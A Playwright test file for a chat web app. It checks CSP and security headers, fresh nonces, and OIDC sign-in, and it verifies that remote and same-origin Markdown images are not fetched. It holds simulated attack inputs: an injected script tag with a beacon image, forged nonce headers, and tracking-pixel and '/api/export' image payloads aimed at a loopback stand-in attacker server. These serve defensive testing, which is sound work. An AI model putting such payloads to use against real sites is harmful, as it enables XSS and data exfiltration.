/**
 * Headers and content: every kind of page carries its CSP (a fresh nonce per response), the fixed
 * security headers, and runs without a single CSP violation while it does its work: previews read from storage, the
 * image loads, a reply streams, OIDC sign-in goes round. Images from other origins in a reply are never fetched.
 * Every test here (as every test using ./fixtures) also fails on any CSP violation on the app's pages.
 */
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { randomUUID } from "node:crypto";
import type { APIResponse, Response } from "@playwright/test";
import { watchCspViolations } from "./csp-violations";
import { expect, test } from "./fixtures";
import { ownUser, seedThreads, topicThreadOf } from "./fresh-user";
import { OIDC_ISSUER, OIDC_PROVIDER_NAME } from "./oidc-provider";
import { OidcProviderLoginPage, SignInPage } from "./pages/sign-in-page";
import { ThreadsPage } from "./pages/threads-page";

const FIXED_HEADERS = {
  "x-content-type-options": "nosniff",
  "referrer-policy": "same-origin",
  "x-frame-options": "DENY",
};

/** `directive -> sources` of a policy header. */
const directives = (csp: string) => new Map(csp.split(/;\s*/).map((d) => [d.split(" ")[0]!, d.split(" ").slice(1)]));

/** Checks a page response's headers; returns its nonce. */
async function expectPageHeaders(response: Response | APIResponse | null): Promise<string> {
  expect(response, "a page response").toBeTruthy();
  const headers = response!.headers();
  for (const [name, value] of Object.entries(FIXED_HEADERS)) expect(headers[name], name).toBe(value);
  expect(headers["permissions-policy"]).toMatch(/(^|, )camera=\(\)/);
  expect(headers["permissions-policy"]).toMatch(/(^|, )microphone=\(\)/);
  expect(headers["permissions-policy"]).toMatch(/(^|, )geolocation=\(\)/);
  // Served over plain HTTP: no HSTS (browsers would ignore it anyway).
  expect(headers["strict-transport-security"]).toBeUndefined();
  const csp = directives(headers["content-security-policy"] ?? "");
  const nonce = /^'nonce-([A-Za-z0-9+/=]+)'$/.exec(csp.get("script-src")?.find((s) => s.startsWith("'nonce-")) ?? "")?.[1];
  expect(nonce, "script-src carries a nonce").toBeTruthy();
  expect(csp.get("script-src")).not.toContain("'unsafe-inline'");
  expect(csp.get("script-src")).not.toContain("'unsafe-eval'");
  expect(csp.get("frame-ancestors")).toEqual(["'none'"]);
  expect(csp.get("object-src")).toEqual(["'none'"]);
  expect(csp.get("base-uri")).toEqual(["'self'"]);
  expect(csp.get("form-action")?.[0]).toBe("'self'");
  expect(csp.get("img-src")?.slice(0, 3)).toEqual(["'self'", "data:", "blob:"]);
  // Every script in the HTML carries this response's nonce.
  const html = await response!.text();
  const scripts = html.match(/<script\b[^>]*>/g) ?? [];
  expect(scripts.length).toBeGreaterThan(0);
  for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
  return nonce!;
}

/** A server on loopback that stands for an attacker's host: it only counts what reaches it. */
async function startPixelServer() {
  const requests: { url: string; headers: IncomingHttpHeaders }[] = [];
  const server: Server = createServer((req, res) => {
    requests.push({ url: req.url ?? "", headers: req.headers });
    // A 1x1 transparent GIF.
    res.writeHead(200, { "content-type": "image/gif" }).end(Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64"));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    host,
    requests,
    stop: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

test.describe("sign-in page", () => {
  test.use({ storageState: { cookies: [], origins: [] } });

  test("has the headers, a fresh nonce per response, and no CSP violation", async ({ page }) => {
    const first = await expectPageHeaders(await page.goto("/sign-in"));
    await expect(new SignInPage(page).submitButton).toBeVisible();
    const second = await expectPageHeaders(await page.reload());
    expect(second).not.toBe(first);
    // The OIDC provider's login page is an allowed target of the sign-in form.
    const csp = directives((await page.request.get("/sign-in")).headers()["content-security-policy"]!);
    expect(csp.get("form-action")).toEqual(["'self'", new URL(OIDC_ISSUER).origin]);
  });

  test("a forged X-Forwarded-Proto gets no HSTS when no proxy is trusted, a client's own nonce or CSP is replaced; API answers load nothing", async ({ page }) => {
    const forged = await page.request.get("/sign-in", { headers: { "x-forwarded-proto": "https" } });
    expect(forged.headers()["strict-transport-security"]).toBeUndefined();
    // The nonce Next and the root layout put on scripts is the server's, never one the request brought along.
    const attacker = { "x-nonce": "YXR0YWNrZXI=", "content-security-policy": "script-src 'nonce-YXR0YWNrZXI='", "content-security-policy-report-only": "script-src 'nonce-YXR0YWNrZXI='" };
    const replaced = await page.request.get("/sign-in", { headers: attacker });
    expect(await expectPageHeaders(replaced)).not.toBe("YXR0YWNrZXI=");
    expect(await replaced.text()).not.toContain("YXR0YWNrZXI=");
    const api = await page.request.get("/api/health", { headers: attacker });
    expect(api.headers()["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'");
    expect(api.headers()["x-content-type-options"]).toBe("nosniff");
  });

  test("markup injected into a page cannot run a script or fetch an image from another origin", async ({ browser, baseURL }) => {
    const page = await browser.newPage({ baseURL });
    const violations: string[] = [];
    await watchCspViolations(page, (v) => violations.push(v));
    // As a stored-XSS would arrive: inside the server's HTML, under the server's own headers.
    await page.route("**/sign-in", async (route) => {
      const response = await route.fetch();
      const injected = '<script>window.__injected = true</script><img id="beacon" src="http://127.0.0.1:9/beacon.png">';
      await route.fulfill({ response, body: (await response.text()).replace("</body>", `${injected}</body>`) });
    });
    await page.goto("/sign-in");
    await expect(new SignInPage(page).submitButton).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
    await expect.poll(() => violations.some((v) => v.startsWith("script-src"))).toBe(true);
    await expect.poll(() => violations.some((v) => v.startsWith("img-src blocked http://127.0.0.1:9/beacon.png"))).toBe(true);
    await page.close();
  });

  test("OIDC sign-in goes round with the CSP on, without a violation on the app's pages", async ({ browser, baseURL }) => {
    const page = await browser.newPage({ baseURL });
    const violations: string[] = [];
    await watchCspViolations(page, (v) => violations.push(v), new URL(baseURL!).origin);
    await page.goto("/sign-in");
    await new SignInPage(page).providerButton(OIDC_PROVIDER_NAME).click();
    await expect(page).toHaveURL(new RegExp(`^${OIDC_ISSUER}/interaction/`));
    await new OidcProviderLoginPage(page).submit({ email: `csp-${randomUUID().slice(0, 8)}@example.com`, name: "Csp Check" });
    await expect(page).toHaveURL(/\/threads/);
    await expect(new ThreadsPage(page).currentUser).toBeVisible();
    expect(violations).toEqual([]);
    await page.close();
  });
});

test.describe("thread pages (alice, read only)", () => {
  test("the list and a thread with an image, a CSV preview and code have the headers and load under the CSP", async ({ page, threads, thread }) => {
    await expectPageHeaders(await page.goto("/threads"));
    await expect(threads.rows.first()).toBeVisible();
    await threads.link("Q3 sales by region").click();
    // Generous: the first render of the biggest seeded thread on a busy machine.
    await expect(thread.heading).toHaveText("Q3 sales by region", { timeout: 30_000 });
    // A direct load of the thread's own URL too (not only a client-side navigation).
    await expectPageHeaders(await page.reload());
    // The image comes from storage (img-src), the CSV preview is fetched from storage (connect-src).
    const image = thread.imageElements(thread.imageThumbnails.first());
    await expect(image).toBeVisible();
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
    await expect(thread.csvPreviews).toBeVisible();
    await expect(thread.codeKeywords(thread.assistantMessages.first()).first()).toBeVisible();
  });

  test("a missing thread's page has the headers too, as do an unknown path's 404 and a missing share's page and print view", async ({ page }) => {
    await expectPageHeaders(await page.goto(`/threads/${randomUUID()}`));
    const unknown = await page.goto(`/no-such-page-${randomUUID().slice(0, 8)}`);
    expect(unknown?.status()).toBe(404);
    await expectPageHeaders(unknown);
    // Share pages pass Next's proxy (their rate gate) as well; the headers come from the server all the same.
    await expectPageHeaders(await page.goto(`/share/${randomUUID()}`));
    // And a share's print view (docs/sharing.md, "Print"), behind the same proxy.
    await expectPageHeaders(await page.goto(`/share/${randomUUID()}/print`));
  });
});

test.describe("new chat and remote images (a user of this spec's own)", () => {
  const asOwnUser = ownUser("csp", (data, identifier) => seedThreads(data, [topicThreadOf(identifier, 0)]));

  asOwnUser("a reply with another origin's image streams, and the image is never fetched until the reader opens it", async ({ page, context, threads, thread }) => {
    // Sign-in, a streamed turn, a reload and a new tab: more than one test's usual minute on a busy machine.
    test.slow();
    const pixel = await startPixelServer();
    try {
      await expectPageHeaders(await page.goto("/threads"));
      await threads.newChat();
      const message = `Look ![tracking pixel](http://${pixel.host}/pixel.png?leak=${randomUUID().slice(0, 8)}) #csp`;
      await thread.send(message);
      // The echo streams back with the image Markdown in it; what arrives shows as a placeholder, not an <img>.
      const placeholder = thread.lastReplyText().getByTestId("remote-image");
      await expect(placeholder).toContainText(`Image from ${pixel.host} not loaded`);
      await expect(placeholder).toContainText("tracking pixel");
      await thread.waitForStoredTurn();
      await expectPageHeaders(await page.reload());
      await expect(thread.lastReplyText().getByTestId("remote-image")).toBeVisible();
      await expect(thread.imageElements(thread.lastReplyText())).toHaveCount(0);
      expect(pixel.requests).toEqual([]);

      // The reader's choice: the image opens in a new tab, without a Referer or an opener.
      const open = thread.lastReplyText().getByRole("link", { name: `Open image from ${pixel.host} in a new tab` });
      await expect(open).toHaveAttribute("rel", /noopener/);
      await expect(open).toHaveAttribute("rel", /noreferrer/);
      await open.focus();
      const [tab] = await Promise.all([context.waitForEvent("page"), page.keyboard.press("Enter")]);
      await tab.waitForLoadState();
      // The tab may also ask that host for its /favicon.ico: only the image's own requests are counted.
      const images = () => pixel.requests.filter((r) => r.url.startsWith("/pixel.png?leak="));
      await expect.poll(() => images().length).toBe(1);
      expect(images()[0]!.headers.referer).toBeUndefined();
      expect(images()[0]!.headers.cookie).toBeUndefined();
      await tab.close();
    } finally {
      await pixel.stop();
    }
  });

  asOwnUser("an image naming the app's own path is never fetched: ![](/api/export) exports nothing; the menu's Export all still downloads", async ({ page, threads, thread }) => {
    test.slow();
    const exports: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).pathname === "/api/export") exports.push(request.url());
    });
    await page.goto("/threads");
    await threads.newChat();
    await thread.send("Mine ![account export](/api/export?via=image) #own");
    await expect(thread.lastReplyText()).toContainText("account export");
    await thread.waitForStoredTurn();
    await page.reload();
    await expect(thread.lastReplyText()).toContainText("account export");
    await expect(thread.imageElements(thread.lastReplyText())).toHaveCount(0);
    expect(exports).toEqual([]);

    // Had an image slipped through, the route refuses it all the same: what Chromium sends for an <img> is a 403.
    const [probe] = await Promise.all([
      page.waitForResponse((response) => response.url().includes("/api/export?via=probe")),
      page.evaluate(() => {
        const image = document.createElement("img");
        image.src = "/api/export?via=probe";
        document.body.append(image);
      }),
    ]);
    const status = probe.status();
    expect(status).toBe(403);

    const [download] = await Promise.all([page.waitForEvent("download"), threads.chooseFromUserMenu("Export all")]);
    expect(download.suggestedFilename()).toMatch(/^threadbook-export-\d{4}-\d\d-\d\d\.zip$/);
  });
});
